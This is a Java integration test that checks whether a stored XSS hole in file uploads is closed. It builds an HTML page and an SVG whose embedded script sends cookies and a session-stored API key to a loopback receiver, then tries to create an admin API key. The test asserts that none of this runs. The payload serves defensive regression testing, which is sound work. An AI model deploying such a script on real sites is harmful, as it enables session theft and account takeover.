package dev.taskmill.ui;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;

import com.sun.net.httpserver.HttpServer;
import io.quarkus.test.common.http.TestHTTPResource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.http.ContentType;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.URL;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CopyOnWriteArrayList;
import org.junit.jupiter.api.Test;

/**
 * The stored XSS of issue 12 in a real browser: a user uploads an HTML page and an SVG whose
 * scripts report to a loopback receiver, read the origin's cookie and storage, and POST {@code
 * /api/v1/keys} to make themselves an admin; an admin who uses the dashboard (so the browser holds
 * the key in sessionStorage and the {@code taskmill_key} cookie) opens both content links in
 * Debian's headless Chromium ({@code src/main/webui/e2e/uploaded-script.mjs}, as {@link
 * DashboardBrowserTest} does). No report may reach the receiver and no key may appear, while a
 * control page with the same script, served by the receiver, does report: scripts run in this
 * browser, just never from an upload in the API's origin.
 */
@QuarkusTest
class UploadedScriptBrowserTest {

  /** Bounds a hang of the browser script; it asserts no speed. */
  private static final long SCRIPT_LIMIT_MINUTES = 5;

  @TestHTTPResource("/")
  URL root;

  @Test
  void aScriptInAnUploadDoesNotRunWithTheAdminsKey() throws Exception {
    List<String> reports = new CopyOnWriteArrayList<>();
    HttpServer receiver =
        HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
    String receiverUrl = "http://127.0.0.1:" + receiver.getAddress().getPort();
    receiver.createContext(
        "/hit",
        exchange -> {
          reports.add(exchange.getRequestURI().getRawQuery());
          exchange.getResponseHeaders().add("Access-Control-Allow-Origin", "*");
          exchange.sendResponseHeaders(204, -1);
          exchange.close();
        });
    receiver.createContext(
        "/control",
        exchange -> {
          byte[] page = html(receiverUrl, "control").getBytes(StandardCharsets.UTF_8);
          exchange.getResponseHeaders().add("Content-Type", "text/html; charset=utf-8");
          exchange.sendResponseHeaders(200, page.length);
          exchange.getResponseBody().write(page);
          exchange.close();
        });
    receiver.start();
    try {
      String mallory = userKey("mallory");
      String page = upload(mallory, html(receiverUrl, "html"), "holiday.html", "text/html");
      String svg = upload(mallory, svg(receiverUrl, "svg"), "logo.svg", "image/svg+xml");
      List<String> keysBefore = keyIds();

      String output =
          runBrowser(
              receiverUrl + "/control",
              base() + "/api/v1/data/" + page + "/content",
              base() + "/api/v1/data/" + svg + "/content");

      assertThat(output).contains("SCRIPT DONE");
      assertThat(reports)
          .as("the control page's script ran and reached the receiver; output:\n" + output)
          .anyMatch(r -> r.startsWith("from=control&ran"));
      assertThat(reports)
          .as("reports from the uploads' scripts; output:\n" + output)
          .noneMatch(r -> r.startsWith("from=html") || r.startsWith("from=svg"));
      assertThat(keyIds()).as("API keys after the admin opened the uploads").isEqualTo(keysBefore);
    } finally {
      receiver.stop(0);
    }
  }

  /** What a hostile upload's script does; {@code from} names it in the reports. */
  private static String script(String receiver, String from) {
    return "const report = (what) => { new Image().src = '"
        + receiver
        + "/hit?from="
        + from
        + "&' + what; };\n"
        + "report('ran');\n"
        + "report('cookie=' + encodeURIComponent(document.cookie));\n"
        + "try { report('session=' + encodeURIComponent(sessionStorage.getItem('taskmill.apiKey')));"
        + " } catch (e) { report('session-blocked'); }\n"
        + "try { report('local=' + localStorage.length); } catch (e) { report('local-blocked'); }\n"
        + "fetch('/api/v1/keys', {method: 'POST', headers: {'Content-Type': 'application/json'},"
        + " body: JSON.stringify({user: 'mallory', role: 'admin', name: 'stolen'})})\n"
        + "  .then((r) => r.text()).then((t) => report('keys=' + encodeURIComponent(t.slice(0, 200))))\n"
        + "  .catch(() => report('keys-failed'));\n";
  }

  private static String html(String receiver, String from) {
    return "<!doctype html><html><head><title>Holiday</title></head><body><p>Holiday photos</p>"
        + "<script>\n"
        + script(receiver, from)
        + "</script></body></html>";
  }

  private static String svg(String receiver, String from) {
    return "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"120\" height=\"80\">"
        + "<rect width=\"120\" height=\"80\" fill=\"teal\"/><script>//<![CDATA[\n"
        + script(receiver, from)
        + "//]]></script></svg>";
  }

  private String runBrowser(String... urls) throws IOException, InterruptedException {
    List<String> args = new ArrayList<>(List.of(base()));
    args.addAll(List.of(urls));
    return BrowserScript.run(
        SCRIPT_LIMIT_MINUTES, "uploaded-script.mjs", args.toArray(String[]::new));
  }

  private String base() {
    return root.toString().replaceAll("/$", "");
  }

  private static String userKey(String user) {
    return given()
        .contentType(ContentType.JSON)
        .body(Map.of("user", user, "role", "user", "name", "uploader"))
        .post("/api/v1/keys")
        .then()
        .statusCode(201)
        .extract()
        .path("key");
  }

  private static String upload(String key, String content, String name, String type) {
    return given()
        .header("Authorization", "Bearer " + key)
        .multiPart("file", name, content.getBytes(StandardCharsets.UTF_8), type)
        .post("/api/v1/data")
        .then()
        .statusCode(201)
        .extract()
        .path("id");
  }

  private static List<String> keyIds() {
    return given()
        .get("/api/v1/keys")
        .then()
        .statusCode(200)
        .extract()
        .jsonPath()
        .getList("keyId", String.class);
  }
}
